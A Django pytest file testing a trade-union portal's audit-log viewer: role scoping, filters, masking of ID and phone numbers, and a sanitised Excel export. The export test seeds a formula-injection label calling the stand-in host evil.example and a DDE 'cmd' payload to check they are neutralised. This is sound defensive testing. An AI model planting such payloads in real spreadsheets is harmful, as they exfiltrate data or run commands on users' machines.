"""The audit viewer: who reads which entries, the filters, the pages and the export."""

import io
from datetime import date, datetime

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from openpyxl import load_workbook

from cardportal import audit_views
from cardportal.audit import audit_record, verb_family, verb_family_choices, verb_family_q
from cardportal.models import AuditEntry
from cardportal.selectors import audit_get_for_user, audit_list_for_user
from members.models import Union

from ..factories import ROLE, make_staff

pytestmark = pytest.mark.django_db
User = get_user_model()


@pytest.fixture
def other_city(tree):
    city = Union.objects.create(code="C1310", name="邻市总工会", level=Union.Level.CITY, parent=tree.province)
    county = Union.objects.create(code="K31", name="邻市丙县总工会", level=Union.Level.COUNTY, parent=city)
    return county


@pytest.fixture
def province_staff(tree):
    return make_staff(ROLE.PROVINCE_STAFF, tree.province, username="province")


def record(verb, union, *, actor=None, label=None, data=None, ip=None):
    """An entry about `union` (None: a system-wide entry, its target the province union)."""
    target = union or Union.objects.order_by("pk").first()
    return audit_record(actor=actor, verb=verb, target=target, union=union, label=label, data=data, ip=ip)


def labels(qs):
    return [e.target_label for e in qs]


def fresh(user):
    """The user as a request would load it: nothing cached (for exact query counts)."""
    return User.objects.get(pk=user.pk)


# --- scope --------------------------------------------------------------------------------------
def test_city_staff_reads_its_counties_and_unions_not_another_city(tree, city_staff, other_city):
    record("member.id_revealed", tree.unit_a1, label="甲县一中")
    record("member.id_revealed", tree.county_b, label="乙县")
    record("member.id_revealed", other_city, label="邻市丙县")
    record("member.id_revealed", None, label="无工会")

    assert labels(audit_list_for_user(user=city_staff)) == ["乙县", "甲县一中"]


def test_province_staff_reads_every_city_of_the_province(tree, province_staff, other_city):
    record("sheet.approved", tree.unit_a1, label="甲县一中")
    record("sheet.approved", other_city, label="邻市丙县")
    record("sheet.approved", None, label="无工会")

    assert labels(audit_list_for_user(user=province_staff)) == ["邻市丙县", "甲县一中"]


def test_superuser_without_a_role_reads_everything_including_entries_without_a_union(tree, other_city):
    root = User.objects.create_superuser("root", password="pw-Cardportal-1")
    record("sheet.approved", tree.unit_a1, label="甲县一中")
    record("admin.user_changed", None, label="无工会")

    assert labels(audit_list_for_user(user=root)) == ["无工会", "甲县一中"]


@pytest.mark.parametrize("role_fixture", ["clerk", "reviewer", "admin_user"])
def test_clerk_county_reviewer_and_county_admin_read_nothing_even_of_their_own_union(
    request, tree, role_fixture, client
):
    user = request.getfixturevalue(role_fixture)
    own = record("member.id_revealed", user.staff.union, label="本单位")
    client.force_login(user)

    assert labels(audit_list_for_user(user=user)) == []
    assert client.get("/audit/").status_code == 403
    assert client.get(f"/audit/{own.pk}/").status_code == 403
    assert client.get("/audit/export/").status_code == 403
    assert AuditEntry.objects.filter(verb="audit.exported").count() == 0


def test_entry_of_another_city_is_404_for_city_staff(tree, city_staff, other_city, client):
    inside = record("member.id_revealed", tree.unit_a1, label="甲县一中")
    outside = record("member.id_revealed", other_city, label="邻市丙县")
    unioned_nowhere = record("admin.user_changed", None, label="无工会")
    client.force_login(city_staff)

    assert client.get(f"/audit/{inside.pk}/").status_code == 200
    assert client.get(f"/audit/{outside.pk}/").status_code == 404
    assert client.get(f"/audit/{unioned_nowhere.pk}/").status_code == 404
    with pytest.raises(Exception) as raised:
        audit_get_for_user(user=city_staff, pk=outside.pk)
    assert type(raised.value).__name__ == "Http404"


def test_top_bar_offers_the_audit_log_to_readers_only(
    tree, city_staff, province_staff, clerk, reviewer, client
):
    root = User.objects.create_superuser("root", password="pw-Cardportal-1")
    shown = {}
    for user in (city_staff, province_staff, root, clerk, reviewer):
        client.force_login(user)
        shown[user.username] = '<a href="/audit/"' in client.get("/").content.decode()

    assert shown == {"city": True, "province": True, "root": True, "clerk-a1": False, "reviewer-a": False}


def test_anonymous_visitor_is_sent_to_sign_in(client):
    response = client.get("/audit/")
    assert (response.status_code, response["Location"]) == (302, "/staff/login/?next=/audit/")


# --- verb families ------------------------------------------------------------------------------
FAMILY_OF = {
    "member.id_revealed": "reveal",
    "batch.handoff_downloaded": "download",
    "disbursement.downloaded": "download",
    "auth.login_failed": "signin_failed",
    "axes.failure": "signin_failed",
    "auth.locked_out": "lockout",
    "axes.lockout": "lockout",
    "admin.user_changed": "admin",
    "admin.staffrole_added": "admin",
    "sheet.approved": "approval",
    "sheet.returned": "approval",
    "claim.rejected": "approval",
    "disbursement.approved": "approval",
    "token.rotated": "account",
    "auth.totp_enrolled": "account",
    # the verbs the sign-in, admin, token, retention and search work write
    "auth.login": "account",
    "second_factor.verified": "account",
    "second_factor.failed": "signin_failed",
    "second_factor.reset": "admin",
    "auth.unlocked": "admin",
    "staff.role_changed": "admin",
    "api_token.issued": "admin",
    "file.removed": "admin",
    "member.searched": "pii_search",
    "member.signed_in": "account",
    "audit.exported": "audit",
    "member.created": "other",
    "batch.handoff_written": "other",
    "disbursement.created": "other",
    "something.nobody_knows": "other",
}


def test_each_verb_lands_in_one_family_in_python_and_in_sql(tree, city_staff):
    for verb in FAMILY_OF:
        record(verb, tree.unit_a1, label=verb)

    assert {verb: verb_family(verb).key for verb in FAMILY_OF} == FAMILY_OF
    for key, _label in verb_family_choices():
        found = set(AuditEntry.objects.filter(verb_family_q(key)).values_list("verb", flat=True))
        assert found == {verb for verb, family in FAMILY_OF.items() if family == key}, key


def test_unknown_family_key_selects_nothing(tree, city_staff):
    record("member.id_revealed", tree.unit_a1)

    assert labels(audit_list_for_user(user=city_staff, family="no-such-family")) == []


def test_family_labels_are_chinese_and_unknown_verbs_are_other():
    assert dict(verb_family_choices()) == {
        "reveal": "查看完整身份证号",
        "pii_search": "按身份证号或手机号查询",
        "download": "下载报送/发放文件",
        "signin_failed": "登录失败",
        "lockout": "账号锁定",
        "admin": "后台变更",
        "approval": "审批",
        "account": "登录与二次验证",
        "audit": "审计日志查阅",
        "other": "其他",
    }
    assert verb_family("brand.new_verb").label == "其他"


# --- filters ------------------------------------------------------------------------------------
def test_filters_by_family_actor_union_dates_and_target(tree, city_staff, clerk, reviewer):
    a = record("member.id_revealed", tree.unit_a1, actor=reviewer, label="张三")
    b = record("batch.handoff_downloaded", tree.county_a, actor=city_staff, label="B-2026-001")
    c = record("sheet.approved", tree.unit_b1, actor=reviewer, label="乙县医院登记表")
    when = {
        a: datetime(2026, 11, 1, 0, 30),
        b: datetime(2026, 11, 15, 23, 59),
        c: datetime(2026, 11, 16, 0, 0),
    }
    for entry, at in when.items():
        AuditEntry.objects.filter(pk=entry.pk).update(created_at=timezone.make_aware(at))

    def find(**filters):
        return labels(audit_list_for_user(user=city_staff, **filters))

    assert find(family="reveal") == ["张三"]
    assert find(family="download") == ["B-2026-001"]
    assert find(family="approval") == ["乙县医院登记表"]
    assert find(actor="review") == ["乙县医院登记表", "张三"]
    assert find(actor="REVIEWER-A") == ["乙县医院登记表", "张三"]
    assert find(union=tree.county_a) == ["B-2026-001", "张三"]
    assert find(union=tree.unit_b1) == ["乙县医院登记表"]
    # Dates are whole days in Beijing time, both ends included.
    assert find(date_from=date(2026, 11, 1), date_to=date(2026, 11, 15)) == [
        "B-2026-001",
        "张三",
    ]
    assert find(date_from=date(2026, 11, 16)) == ["乙县医院登记表"]
    assert find(date_to=date(2026, 10, 31)) == []
    assert find(target="张三") == ["张三"]
    assert find(target=str(tree.county_a.pk)) == ["B-2026-001"]
    assert find(family="download", actor="city", union=tree.county_a, target="B-2026") == ["B-2026-001"]


def test_selector_reads_a_page_in_three_queries(tree, city_staff, reviewer, django_assert_num_queries):
    for i in range(60):
        record(
            "member.id_revealed", tree.unit_a1 if i % 2 else tree.county_b, actor=reviewer, label=f"第{i}条"
        )
    user = fresh(city_staff)

    # The staff role, its union (for the scope path), then the page with actor and union joined.
    with django_assert_num_queries(3):
        page = list(audit_list_for_user(user=user, family="reveal")[:50])
        rendered = [(e.actor.username, e.union.name, e.verb_label) for e in page]

    assert len(rendered) == 50
    assert rendered[0] == ("reviewer-a", "甲县第一中学工会", "查看完整身份证号")


# --- pages --------------------------------------------------------------------------------------
def test_list_page_shows_masked_entries_with_family_labels_and_pages(tree, city_staff, reviewer, client):
    for i in range(51):
        record("sheet.approved", tree.unit_a1, actor=reviewer, label=f"登记表{i:02d}")
    record("member.transferred", tree.unit_a1, actor=reviewer, label="备注 130902198506150012 13912345678")
    client.force_login(city_staff)

    first = client.get("/audit/").content.decode()
    second = client.get("/audit/?page=2").content.decode()

    assert "备注 130902********0012 139****5678" in first
    assert "130902198506150012" not in first and "13912345678" not in first
    assert first.count(">审批</span>") == 49 and "第 1 页 / 共 2 页（52 条）" in first
    assert second.count(">审批</span>") == 2 and "登记表00" in second
    assert 'href="/audit/"' in first  # the nav entry 审计日志


def test_detail_page_masks_personal_numbers_in_the_details(tree, city_staff, reviewer, client):
    entry = record(
        "member.status_changed",
        tree.unit_a1,
        actor=reviewer,
        label="张三（130902********0012）",
        data={"note": "本人 130902198506150012，电话 13912345678", "status": "left"},
        ip="10.1.2.3",
    )
    client.force_login(city_staff)

    page = client.get(f"/audit/{entry.pk}/").content.decode()

    assert "本人 130902********0012，电话 139****5678" in page
    assert "130902198506150012" not in page and "13912345678" not in page
    assert "reviewer-a" in page and "10.1.2.3" in page and "会籍状态变更" in page and "<dt>备注</dt>" in page


def test_a_full_id_number_as_target_is_refused_and_nothing_is_listed(tree, city_staff, client):
    record("member.id_revealed", tree.unit_a1, label="张三（130902********0012）")
    client.force_login(city_staff)

    page = client.get("/audit/", {"target": "130902198506150012"}).content.decode()

    assert "请勿输入完整身份证号或手机号" in page
    assert "张三" not in page and "没有符合条件的记录" in page


def test_date_range_the_wrong_way_round_is_explained(tree, city_staff, client):
    client.force_login(city_staff)

    page = client.get("/audit/", {"date_from": "2026-11-20", "date_to": "2026-11-01"}).content.decode()

    assert "截止日期：截止日期不能早于起始日期" in page


# --- export -------------------------------------------------------------------------------------
def read_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_export_is_masked_formula_free_scoped_and_audited(tree, city_staff, reviewer, other_city, client):
    record(
        "member.transferred",
        tree.unit_a1,
        actor=reviewer,
        label='=HYPERLINK("http://evil.example/?x="&B3,"点击")',
        data={"note": "+cmd|' /C calc'!A0 130902198506150012 13912345678"},
        ip="10.1.2.3",
    )
    record("member.id_revealed", tree.unit_a1, actor=reviewer, label="@SUM(1+1)")
    record("member.id_revealed", other_city, label="邻市丙县")
    client.force_login(city_staff)

    response = client.get("/audit/export/", {"family": "", "union": tree.county_a.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = read_xlsx(response.content)
    assert rows[1] == [
        "时间",
        "操作人",
        "操作类别",
        "操作",
        "操作代码",
        "对象类型",
        "对象编号",
        "对象",
        "所属工会",
        "IP 地址",
        "详情",
    ]
    body = rows[2:]
    assert [(r[1], r[2], r[3], r[4], r[7], r[8], r[9]) for r in body] == [
        (
            "reviewer-a",
            "查看完整身份证号",
            "查看完整身份证号",
            "member.id_revealed",
            "'@SUM(1+1)",
            "甲县第一中学工会",
            None,  # no IP: an empty cell
        ),
        (
            "reviewer-a",
            "其他",
            "转会",
            "member.transferred",
            '\'=HYPERLINK("http://evil.example/?x="&B3,"点击")',
            "甲县第一中学工会",
            "10.1.2.3",
        ),
    ]
    assert body[1][10] == '{"note": "+cmd|\' /C calc\'!A0 130902********0012 139****5678"}'
    cells = [str(v) for row in rows for v in row if v is not None]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert not any("130902198506150012" in v or "13912345678" in v for v in cells)
    # The export itself is in the log, with what was chosen and how many rows left.
    exported = AuditEntry.objects.get(verb="audit.exported")
    assert (exported.actor, exported.union, exported.data) == (
        city_staff,
        tree.city,
        {"filters": {"union": "K01"}, "rows": 2},
    )


def test_export_above_the_limit_is_refused_with_a_message_and_not_audited(
    tree, city_staff, client, monkeypatch
):
    monkeypatch.setattr(audit_views, "EXPORT_MAX_ROWS", 2)
    for i in range(3):
        record("sheet.approved", tree.unit_a1, label=f"登记表{i}")
    client.force_login(city_staff)

    response = client.get("/audit/export/", {"family": "approval"}, follow=True)

    assert response.redirect_chain == [("/audit/?family=approval", 302)]
    assert "筛选结果超过 2 条，请缩小日期范围或增加条件后再导出" in response.content.decode()
    assert AuditEntry.objects.filter(verb="audit.exported").count() == 0


def test_export_with_invalid_filters_is_refused(tree, city_staff, client):
    client.force_login(city_staff)

    response = client.get("/audit/export/", {"target": "13912345678"}, follow=True)

    assert "筛选条件有误，请先改正后再导出" in response.content.decode()
    assert AuditEntry.objects.filter(verb="audit.exported").count() == 0
